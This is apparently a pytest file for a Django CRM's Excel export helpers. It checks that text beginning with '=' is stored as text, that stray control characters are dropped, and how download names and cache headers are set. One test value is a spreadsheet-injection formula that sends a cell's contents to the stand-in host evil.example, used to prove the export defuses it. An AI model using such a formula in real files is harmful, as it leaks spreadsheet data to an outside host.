"""What the pages' downloads share (pharmacrm/core/downloads.py): a text that begins with "=" is written as text,
never as a formula the reader's Excel would run, on a normal sheet and on a write-only one; a control character no
workbook can hold is left out instead of failing the export; the file is named in the reader's language and dated; no
cache keeps it."""

from __future__ import annotations

import io

import pytest
from django.utils import timezone, translation
from openpyxl import Workbook, load_workbook

from pharmacrm.core import downloads

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'


@pytest.mark.parametrize("write_only", [False, True])
def test_a_text_like_a_formula_stays_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("客户") if write_only else book.active
    downloads.append_row(sheet, ["北京协和医院", FORMULA, 12, None, "= 1+1"])
    downloads.append_row(sheet, (v for v in ["=SUM(C1:C1)", "-3"]))  # any iterable
    downloads.append_row(sheet, ["批号\x0b未登记\x01", "换行\n保留"])  # pasted from Word: no workbook holds \x0b

    read = load_workbook(io.BytesIO(downloads.workbook_bytes(book)))
    rows = [[(c.value, c.data_type) for c in row] for row in read.worksheets[0].iter_rows()]
    assert rows[0][:3] == [("北京协和医院", "s"), (FORMULA, "s"), (12, "n")]
    assert rows[0][4] == ("= 1+1", "s")
    assert rows[1][:2] == [("=SUM(C1:C1)", "s"), ("-3", "s")]
    assert rows[2][:2] == [("批号未登记", "s"), ("换行\n保留", "s")]
    assert not any(kind == "f" for row in rows for _value, kind in row)


def test_the_file_is_named_in_the_readers_language_dated_and_kept_by_no_cache():
    stamp = timezone.localtime().strftime("%Y%m%d")
    with translation.override("zh-hans"):
        response = downloads.xlsx(b"PK", translation.gettext("Service performance"), "2026-11")
    assert response["Content-Type"] == downloads.XLSX_TYPE
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''" + "%E6%9C%8D%E5%8A%A1%E7%BB%A9%E6%95%88" + f"-2026-11-{stamp}.xlsx"
    )
    assert downloads.file_name("Sales targets", 2027, dated=False) == "Sales-targets-2027.xlsx"
    assert downloads.file_name("Progress report", None, "", extension="pdf") == f"Progress-report-{stamp}.pdf"
